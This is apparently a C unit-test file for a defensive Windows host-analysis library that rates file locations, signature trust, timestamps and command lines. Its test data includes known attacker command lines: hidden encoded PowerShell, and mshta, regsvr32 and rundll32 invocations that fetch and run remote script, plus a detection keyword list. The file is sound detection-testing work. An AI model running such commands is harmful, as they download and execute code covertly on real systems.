/* What the place of a file and its signature say of what starts it. */
#include "judge/host_file.h"

#include <setjmp.h>
#include <stdarg.h>

#include <cmocka.h>

static void places(void **state) {
    (void)state;
    static const struct {
        const char *path;
        enum host_place place;
    } tries[] = {
        {"", HOST_PLACE_UNKNOWN},
        {"a.sys", HOST_PLACE_UNKNOWN},
        {"D:/a.sys", HOST_PLACE_OTHER},
        {"/a.sys", HOST_PLACE_OTHER},
        {"/Windows.old/a.sys", HOST_PLACE_OTHER},
        {"/WINDOWS/system32/DRIVERS/a.sys", HOST_PLACE_DRIVERS},
        {"/Windows/System32/DriverStore/FileRepository/a/a.sys", HOST_PLACE_DRIVERS},
        {"/Windows/System32/drivers", HOST_PLACE_SYSTEM},
        {"/Windows/System32/a.dll", HOST_PLACE_SYSTEM},
        {"/Windows/Temp/a.dll", HOST_PLACE_OPEN},
        {"/Windows/Temporary/a.dll", HOST_PLACE_SYSTEM},
        {"/Windows/System32/spool/drivers/color/a.dll", HOST_PLACE_OPEN},
        {"/Program Files/a/a.exe", HOST_PLACE_PROGRAMS},
        {"/Program Files (x86)/a.exe", HOST_PLACE_PROGRAMS},
        {"/Program Filesx/a.exe", HOST_PLACE_OTHER},
        {"/ProgramData/Microsoft/Windows Defender/Platform/4/MsMpEng.exe", HOST_PLACE_PROGRAMS},
        {"/ProgramData/a.exe", HOST_PLACE_OPEN},
        {"/ProgramData/Vendor/a.exe", HOST_PLACE_VENDOR},
        {"/ProgramData/Vendor/Temp/a.exe", HOST_PLACE_OPEN},
        {"/Users/a/a.exe", HOST_PLACE_OPEN},
        {"/Users/a/Downloads/x/y/z/a.exe", HOST_PLACE_OPEN},
        {"/Users/Public/AppData/Local/V/a.exe", HOST_PLACE_OPEN},
        {"/Users/a/AppData/Local/a.exe", HOST_PLACE_OPEN},
        {"/Users/a/AppData/Local/Microsoft/OneDrive/OneDrive.exe", HOST_PLACE_VENDOR},
        {"/Users/a/AppData/Local/Temp/x/y/a.exe", HOST_PLACE_OPEN},
        {"/PerfLogs/a.exe", HOST_PLACE_OPEN},
    };
    for (size_t i = 0; i < sizeof tries / sizeof tries[0]; i++)
        if (host_place_of(tries[i].path) != tries[i].place)
            fail_msg("%s is %s", tries[i].path, host_place_word(host_place_of(tries[i].path)));
}

static void trust(void **state) {
    (void)state;
    assert_int_equal(host_trust_of(NULL), HOST_TRUST_UNKNOWN);
    assert_int_equal(host_trust_of(""), HOST_TRUST_UNKNOWN);
    assert_int_equal(host_trust_of("unknown"), HOST_TRUST_UNKNOWN);
    assert_int_equal(host_trust_of("expired-not-timestamped"), HOST_TRUST_UNKNOWN);
    assert_int_equal(host_trust_of("trusted"), HOST_TRUST_GOOD);
    assert_int_equal(host_trust_of("unsigned"), HOST_TRUST_BAD);
    assert_int_equal(host_trust_of("digest-mismatch"), HOST_TRUST_BAD);
    assert_true(host_is_microsoft("Microsoft Windows"));
    assert_false(host_is_microsoft("Microsofty"));
    assert_false(host_is_microsoft(NULL));
}

static void times(void **state) {
    (void)state;
    struct host_moment moment;
    host_moment(0, &moment);
    assert_string_equal(moment.text, "");
    host_moment(INT64_C(133600000000000000), &moment);
    assert_int_equal(strncmp(moment.text, "2024-05-12T", 11), 0);
    assert_int_equal(host_apart(INT64_C(30000000), INT64_C(10000000)), 2);
    assert_int_equal(host_apart(INT64_C(10000000), INT64_C(30000000)), 2);
    assert_true(host_apart(0, INT64_C(10000000)) == UINT64_MAX);
    assert_true(host_apart(INT64_MIN, INT64_MAX) == UINT64_MAX);
    assert_true(host_apart(INT64_MAX, 1) < UINT64_MAX);
}

static void words(void **state) {
    (void)state;
    static const char *const list[] = {"mshta", "-enc", NULL}, *const none[] = {NULL};
    assert_true(host_has_word("C:\\Windows\\MSHTA.exe x", list));
    assert_false(host_has_word("notepad", list));
    assert_false(host_has_word("", list));
    assert_false(host_has_word("mshta", none));
}

static void commands(void **state) {
    (void)state;
    static const char *const hidden[] = {"%COMSPEC% /b /c start /b /min powershell -nop -w hidden -enc AAAA",
                                         "C:\\Windows\\system32\\cmd.exe /c echo abc > \\\\.\\pipe\\abc",
                                         "mshta http://x/y.hta",
                                         "regsvr32 /s /n /u /i:http://x/y.sct scrobj.dll",
                                         "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \""};
    static const char *const shells[] = {
        "cmd.exe /c copy a b", "PowerShell.exe -File C:\\a.ps1", "wscript C:\\a.vbs",
        "powershell -WindowStyle Hidden -ExecutionPolicy Bypass -File a.ps1"};
    static const char *const plain[] = {"", "C:\\Windows\\System32\\svchost.exe -k netsvcs",
                                        "C:\\Program Files\\x-encoder\\x.exe -encode", "certutil -store",
                                        "rundll32.exe a.dll,b"};
    for (size_t i = 0; i < sizeof hidden / sizeof hidden[0]; i++)
        assert_int_equal(host_command_of(hidden[i]), HOST_COMMAND_HIDDEN);
    for (size_t i = 0; i < sizeof shells / sizeof shells[0]; i++)
        assert_int_equal(host_command_of(shells[i]), HOST_COMMAND_SHELL);
    for (size_t i = 0; i < sizeof plain / sizeof plain[0]; i++)
        assert_int_equal(host_command_of(plain[i]), HOST_COMMAND_PLAIN);
    assert_true(host_is_masked("/Windows/SVCHOST.EXE"));
    assert_true(host_is_masked("/ProgramData/Windows/System32/lsass.exe"));
    assert_true(host_is_masked("/Windows/System32/drivers/csrss.exe"));
    assert_false(host_is_masked("svchost.exe"));
    assert_false(host_is_masked("/svchost"));
    assert_false(host_is_masked("/windows/SYSTEM32/svchost.exe"));
    assert_false(host_is_masked("D:/Windows/SysWOW64/dllhost.exe"));
    assert_false(host_is_masked("/Windows/WinSxS/x/conhost.exe"));
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(places), cmocka_unit_test(trust),    cmocka_unit_test(times),
        cmocka_unit_test(words),  cmocka_unit_test(commands),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
